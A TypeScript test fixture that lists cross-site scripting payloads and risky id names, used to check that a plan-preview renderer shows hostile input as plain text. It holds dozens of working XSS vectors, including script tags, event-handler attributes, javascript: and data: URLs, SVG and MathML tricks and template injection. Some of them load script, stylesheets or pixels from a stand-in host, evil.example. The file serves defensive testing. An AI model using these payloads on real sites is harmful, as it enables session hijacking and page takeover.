// Strings a hostile or careless plan author could put in any text field of a plan. Each
// tries to run script (setting the flag below or opening a dialog), load something from
// outside, add an element or attribute, or break out of the context it lands in. The preview
// must show every one of them as plain text.

/** The global a payload sets when it manages to run. */
export const XSS_FLAG = '__wpXss';

const set = `window.${XSS_FLAG}=1`;

export const XSS_PAYLOADS: readonly string[] = [
  // Script elements, plain and disguised.
  `<script>${set}</script>`,
  `<ScRiPt>${set}</sCrIpT>`,
  `<scr<script>ipt>${set}</scr</script>ipt>`,
  `<script src="https://evil.example/x.js"></script>`,
  `</script><script>${set}</script>`,
  `<template><script>${set}</script></template>`,
  `<!--<script>${set}</script>-->`,
  `<![CDATA[<script>${set}</script>]]>`,
  // Breaking out of the context the text lands in.
  `</style><script>${set}</script>`,
  `</title><script>${set}</script>`,
  `</textarea><script>${set}</script>`,
  `"><script>${set}</script>`,
  `'><img src=x onerror=${set}>`,
  `" onmouseover="${set}" x="`,
  `' onfocus='${set}' autofocus x='`,
  `\\"><svg/onload=${set}>`,
  `"; alert(1); "`,
  `'); alert(1); //`,
  // Event attributes on elements that fire them by themselves.
  `<img src=x onerror="${set}">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<svg onload="${set}">`,
  `<body onload="${set}">`,
  `<input autofocus onfocus="${set}">`,
  `<details open ontoggle="${set}">`,
  `<video><source onerror="${set}"></video>`,
  `<audio src=x onerror="${set}">`,
  `<marquee onstart="${set}">x</marquee>`,
  `<isindex type=image src=1 onerror=${set}>`,
  `<x onclick="${set}">klik</x>`,
  `<a href="#" data-line="0" onclick="${set}">nep-bevinding</a>`,
  // javascript: and data: URLs.
  `javascript:${set}`,
  `javascript&colon;${set}`,
  `<a href="javascript:${set}">klik</a>`,
  `<iframe src="javascript:parent.${XSS_FLAG}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${XSS_FLAG}=1</script>"></iframe>`,
  `<object data="javascript:${set}"></object>`,
  `<embed src="data:text/html,<script>parent.${XSS_FLAG}=1</script>">`,
  `<form action="javascript:${set}"><button>verstuur</button></form>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  // SVG and MathML tricks.
  `<svg><script>${set}</script></svg>`,
  `<svg><a xlink:href="javascript:${set}"><text x="20" y="20">klik</text></a></svg>`,
  `<svg><animate onbegin="${set}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${set}"/></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x"/></svg>`,
  `<svg><style>@import url(https://evil.example/a.css)</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${set}>`,
  `<math href="javascript:${set}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${set}>">`,
  // CSS.
  `<div style="background:url(javascript:${set})">x</div>`,
  `<div style="width: expression(${set})">x</div>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `x;} body { display: none } .wp { x:`,
  // Loading from outside, redirecting, rebasing.
  `<img src="https://evil.example/pixel.png">`,
  `<img srcset="https://evil.example/a.png 1x">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<a href="https://evil.example/">link in het plan</a>`,
  `https://evil.example/phish`,
  // Template injection and escapes that must stay literal.
  `{{constructor.constructor('${set}')()}}`,
  `\${${set}}`,
  `<%= ${set} %>`,
  `\\u003cscript\\u003e${set}\\u003c/script\\u003e`,
  `&lt;script&gt;${set}&lt;/script&gt;`,
  `&#60;img src=x onerror=${set}&#62;`,
  `&amp;lt;b&amp;gt;`,
  // Look-alikes and direction tricks.
  `＜script＞${set}＜/script＞`,
  `\u202e<script>${set}</script>`,
  `<b>vet</b> & <i>schuin</i> "aanhalingstekens" 'enkel'`,
];

/**
 * Id-valid variants (`^[A-Za-z][A-Za-z0-9_-]*$`) for id fields: names of event attributes,
 * script-ish words, DOM and prototype names that a careless renderer would turn into ids,
 * properties or selectors, and the renderer's own element ids.
 */
export const XSS_IDS: readonly string[] = [
  'script',
  'onerror',
  'onload',
  'onclick',
  'javascript',
  'srcdoc',
  'formaction',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  'innerHTML',
  'document',
  'window',
  'location',
  'body',
  'style',
  'nonce',
  'data-line',
  'wp-score',
  'wp-hatch-gap',
  'wijkplan-preview',
  'img-src-x-onerror-alert',
  'svg-onload-alert',
  'iframe-srcdoc',
  'x--script--',
  'A_b-1',
];
